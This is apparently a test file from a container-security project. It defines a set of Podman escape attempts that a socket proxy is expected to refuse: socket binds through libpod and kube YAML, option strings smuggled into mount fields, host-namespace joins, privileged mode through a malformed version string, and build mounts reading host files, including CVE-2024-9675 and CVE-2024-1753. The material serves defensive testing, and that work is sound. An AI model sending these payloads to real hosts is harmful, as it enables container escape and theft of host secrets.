import { mkdirSync, readlinkSync, rmSync, writeFileSync } from 'node:fs';
import { basename, dirname, join } from 'node:path';
import { isOnHost, printed, sawEngine, tellInode } from '../ask-engine/evidence.ts';
import type { Attack, AttackClass } from '../attack.ts';
import { creating, type Mounting, mounting } from '../build-attack/container-attacks.ts';
import { COMMAND, either, MALFORMED, wayOut } from '../build-attack/reasons.ts';
import { act, create, post } from '../build-attack/requests.ts';
import { tarOf } from '../stage/image.ts';
import type { Run } from '../stage/run.ts';
import { marker, SECRET, strong } from '../stage/strong.ts';
import type { Door } from '../wire/door.ts';

/** Podman's own API, which wants a version. */
const OWN = '/v4.3.1/libpod';

/** A create of Docker's API, in which Podman finds the socket and Docker does not. */
function reading(id: string, title: string, body: Mounting['body'], at = (_: Run) => '/x'): Attack {
  return mounting({ id, title, body, at, refusal: MALFORMED });
}

const mount = (fields: (run: Run) => object) => (run: Run) => ({ HostConfig: { Mounts: [fields(run)] } });
const inFolder = (run: Run) => join('/x', basename(run.engine.socket));

/** The socket by a container of Podman's own API. */
function own(id: string, title: string, api: string, quick = false): Attack {
  return {
    id,
    title,
    quick,
    async attempt(door, run) {
      const mounts = [{ type: 'bind', source: run.engine.socket, destination: '/x', options: ['rbind'] }];
      const { image } = run.stage;
      const json = { name: run.name, image, command: tellInode('/x'), mounts };
      await door.send(post(`${api}/containers/create`, json));
      await door.send(post(`${api}/containers/${run.name}/start`));
      await door.send(act(run, 'start'));
    },
    happened: (run) => sawEngine(run),
    refusal: either(COMMAND, MALFORMED),
  };
}

const pod = ({ name, stage, engine }: Run): string => `apiVersion: v1
kind: Pod
metadata:
  name: ${name}-pod
spec:
  restartPolicy: Never
  containers:
  - name: c
    image: ${stage.image}
    imagePullPolicy: Never
    command: ${JSON.stringify(tellInode('/x'))}
    volumeMounts: [{ name: v, mountPath: /x }]
  volumes: [{ name: v, hostPath: { path: ${engine.socket} } }]
`;

/** A namespace of the machine's, by its path in /proc. Of our own process, since those of others may not be looked at. */
function joining(field: string, name: string): Attack {
  const file = `/proc/${process.pid}/ns/${name}`;
  return {
    id: `${name}-by-path`,
    title: `joins a namespace of the machine by its path: ${field}`,
    async attempt(door, run) {
      const Cmd = ['/bin/busybox', 'readlink', `/proc/self/ns/${name}`];
      await door.send(create(run, { Cmd, HostConfig: { [field]: `ns:${file}` } }));
      await door.send(act(run, 'start'));
    },
    happened: async (run) => (await printed(run)).includes(readlinkSync(file)),
    refusal: wayOut('host-pid', 'host-ipc', 'host-uts', 'host-network'),
  };
}

interface Building {
  readonly id: string;
  readonly title: string;
  /** After the first line; a step leaves what it found in `/seen`. */
  readonly steps: (run: Run) => string;
  readonly query?: (run: Run) => object;
  readonly path?: string;
  readonly finds?: string;
}

/** A build reads on the host what it should not see. */
function building({ id, title, steps, query, path = '/build', finds = SECRET }: Building): Attack {
  return {
    id,
    title,
    prepare: (run) => writeFileSync(join(run.outside, 'secret'), SECRET),
    async attempt(door, run) {
      const tar = await tarOf({ Dockerfile: `FROM ${run.stage.image}\n${steps(run)}\n` });
      const more = Object.entries(query?.(run) ?? {}).map(([key, value]) => `&${key}=${encodeURIComponent(value)}`);
      await door.send({ method: 'POST', path: `${path}?t=${run.name}:latest${more.join('')}`, tar });
    },
    async happened(run) {
      const body = { Image: `${run.name}:latest`, Cmd: ['/bin/busybox', 'cat', '/seen'] };
      const { path: at, json } = create(run, body);
      const { status } = await run.engine.door.send({ method: 'POST', path: at, json });
      if (status !== 201) return false;
      await run.engine.have('POST', `/containers/${run.name}/start`);
      return (await printed(run)).includes(finds);
    },
    refusal: either(wayOut('podman-build', 'unknown-fields'), COMMAND),
  };
}

/** An image of the run's has the program of the stronger container. */
async function isOfStrong(run: Run): Promise<boolean> {
  const image = await run.engine.find<{ Config: { Cmd?: readonly string[] | null } }>(
    `/images/${run.name}:latest/json`,
  );
  return image?.Config.Cmd?.at(-1) === 'sh';
}

function importing(id: string, title: string, before: string, refusal: RegExp): Attack {
  return {
    id,
    title,
    refusal,
    async prepare(run) {
      writeFileSync(join(run.outside, 'fs.tar'), await tarOf({ secret: SECRET }));
    },
    attempt(door, run) {
      const source = encodeURIComponent(join(run.outside, 'fs.tar'));
      return door.send(post(`/images/create?${before}fromSrc=${source}&repo=${run.name}&tag=latest`));
    },
    happened: async (run) => (await run.engine.find(`/images/${run.name}:latest/json`)) !== undefined,
  };
}

/** Steps with a mount, and what they look at there. */
const step = (mounted: string, script: string): string =>
  `RUN --mount=${mounted} ["/bin/busybox", "sh", "-c", ${JSON.stringify(script)}]`;
/** On the same file system, and not within: what overlays want of the folder that they work in. */
const besides = ({ outside }: Run) => `${outside}-work`;
const UP = '../'.repeat(30);

async function execute(door: Door, run: Run): Promise<void> {
  const json = { Cmd: ['/bin/busybox', 'touch', '/outside/marker'] };
  const { text } = await door.send(post(`${OWN}/containers/${run.name}-strong/exec`, json));
  const id = /"Id":"([0-9a-f]+)"/.exec(text)?.[1];
  if (id !== undefined) await door.send(post(`${OWN}/exec/${id}/start`, { Detach: true }));
}

export const podman: AttackClass = {
  name: 'podman',
  forbids: "Podman does what Docker would not: by its own API, or by its own reading of Docker's",
  attacks: [
    own('own-create', "binds the socket by Podman's own API", OWN, true),
    own('own-create-docker-version', "binds it by Podman's own API with a version of Docker's", '/v1.41/libpod'),
    {
      id: 'own-play',
      title: 'binds the socket by a pod in YAML',
      async attempt(door, run) {
        run.undo(() => run.engine.undo('DELETE', `${OWN}/pods/${run.name}-pod?force=true`));
        await door.send(post(`${OWN}/play/kube`, pod(run)));
      },
      happened: (run) => sawEngine(run, '-pod-c'),
      refusal: COMMAND,
    },
    {
      id: 'own-exec',
      title: "executes in a stronger container by Podman's own API",
      prepare: (run) => strong(run),
      attempt: execute,
      happened: (run) => isOnHost(marker(run)),
      refusal: COMMAND,
    },
    {
      id: 'own-volume',
      title: "makes a volume of the socket's folder by Podman's own API",
      attempt: (door, run) =>
        door.send(
          post(`${OWN}/volumes/create`, {
            Name: run.name,
            Options: { type: 'none', o: 'bind', device: dirname(run.engine.socket) },
          }),
        ),
      happened: async (run) => (await run.engine.find(`/volumes/${run.name}`)) !== undefined,
      refusal: COMMAND,
    },
    reading('volumes-key', 'binds the socket by a key of Volumes', (run) => ({
      Volumes: { [`${run.engine.socket}:/x`]: {} },
    })),
    reading('relative-bind', 'binds it by a path that is relative to where the engine was started', (run) => ({
      HostConfig: { Binds: [`${UP}${run.engine.socket.slice(1)}:/x`] },
    })),
    reading(
      'source-field',
      'names another source within the source of a mount',
      mount((run) => ({ Type: 'bind', Source: `${run.folder},source=${run.engine.socket}`, Target: '/x' })),
    ),
    reading(
      'target-field',
      'names another source within the target of a mount',
      mount((run) => ({ Type: 'bind', Source: run.folder, Target: `/x,src=${run.engine.socket}` })),
    ),
    reading(
      'consistency-field',
      'names another source within the consistency of a mount',
      mount((run) => ({
        ...{ Type: 'bind', Source: run.folder, Target: '/x' },
        Consistency: `cached,source=${run.engine.socket}`,
      })),
    ),
    reading(
      'volume-field',
      'gives options to a volume within the target of its mount',
      mount((run) => {
        const options = ['type=none', 'o=bind', `device=${dirname(run.engine.socket)}`];
        return { Type: 'volume', Source: run.name, Target: ['/x', ...options.map((o) => `volume-opt=${o}`)].join(',') };
      }),
      inFolder,
    ),
    {
      id: 'overlay-upper',
      title: 'reads a folder of the host as the upper layer of a bind',
      prepare(run) {
        writeFileSync(join(run.outside, 'secret'), SECRET);
        mkdirSync(besides(run));
        run.undo(() => rmSync(besides(run), { recursive: true }));
      },
      async attempt(door, run) {
        const options = `O,upperdir=${run.outside},workdir=${besides(run)}`;
        const HostConfig = { Binds: [`${run.folder}:/x:${options}`] };
        await door.send(create(run, { Cmd: ['/bin/busybox', 'cat', '/x/secret'], HostConfig }));
        await door.send(act(run, 'start'));
      },
      happened: async (run) => (await printed(run)).includes(SECRET),
      refusal: MALFORMED,
    },
    {
      id: 'log-file',
      title: 'has its output written into a file of the host',
      async attempt(door, run) {
        const LogConfig = { Type: 'json-file', Config: { path: join(run.outside, 'marker') } };
        await door.send(create(run, { Cmd: ['/bin/busybox', 'echo', 'x'], HostConfig: { LogConfig } }));
        await door.send(act(run, 'start'));
        await door.send(act(run, 'wait'));
      },
      happened: (run) => isOnHost(marker(run)),
      refusal: wayOut('log-driver'),
    },
    joining('PidMode', 'pid'),
    joining('IpcMode', 'ipc'),
    joining('UTSMode', 'uts'),
    joining('NetworkMode', 'net'),
    creating({
      id: 'version-suffix',
      title: 'is privileged by a version with a word behind it, which only Podman takes',
      version: '/v1.41-x',
      body: () => ({ HostConfig: { Privileged: true } }),
      holds: ({ Privileged }) => Privileged === true,
      refusal: MALFORMED,
    }),
    {
      id: 'commit-twice',
      title: 'commits a stronger container, which it names after one of its own',
      prepare: (run) => strong(run),
      async attempt(door, run) {
        await door.send(create(run, {}));
        const both = `container=${run.name}&container=${run.name}-strong`;
        await door.send(post(`/commit?${both}&repo=${run.name}&tag=latest`, {}));
      },
      happened: isOfStrong,
      refusal: MALFORMED,
    },
    building({
      id: 'build-context',
      title: 'gives a build a folder of the host as another context',
      query: ({ outside }) => ({
        additionalbuildcontexts: JSON.stringify({ c: { IsURL: false, IsImage: false, Value: outside } }),
      }),
      steps: () => step('type=bind,from=c,target=/x', 'cat /x/secret >/seen'),
    }),
    building({
      id: 'build-own',
      title: "does so by Podman's own API",
      path: `${OWN}/build`,
      query: ({ outside }) => ({
        additionalbuildcontexts: JSON.stringify({ c: { IsURL: false, IsImage: false, Value: outside } }),
      }),
      steps: () => step('type=bind,from=c,target=/x', 'cat /x/secret >/seen'),
    }),
    building({
      id: 'build-secret',
      title: 'gives a build a file of the host as a secret',
      query: ({ outside }) => ({ secrets: JSON.stringify([`id=s,src=${UP}${outside.slice(1)}/secret`]) }),
      steps: () => step('type=secret,id=s', 'cat /run/secrets/s >/seen'),
    }),
    building({
      id: 'build-processes',
      title: 'builds among the processes of the host',
      query: () => ({ nsoptions: JSON.stringify([{ Name: 'pid', Host: true, Path: '' }]) }),
      steps: () => step('type=tmpfs,target=/x', 'readlink /proc/self/ns/pid >/seen'),
      finds: readlinkSync('/proc/self/ns/pid'),
    }),
    building({
      id: 'build-cache',
      title: 'mounts a folder of the host as a cache by dots in its name (CVE-2024-9675)',
      steps: ({ outside }) => step(`type=cache,id=${UP}${outside.slice(1)},target=/x`, 'cat /x/secret >/seen'),
    }),
    building({
      id: 'build-link',
      title: 'mounts the root of the host by a link in an earlier stage (CVE-2024-1753)',
      steps: ({ stage, outside }) =>
        [
          'RUN ["/bin/busybox", "ln", "-s", "/", "/root-of-host"]',
          `FROM ${stage.image}`,
          step('type=bind,from=0,source=/root-of-host,target=/x', `cat /x${outside}/secret >/seen`),
        ].join('\n'),
    }),
    importing('import-file', 'imports a file of the host', '', wayOut('local-url')),
    importing('import-twice', 'names it behind another source', 'fromSrc=-&', MALFORMED),
  ],
};
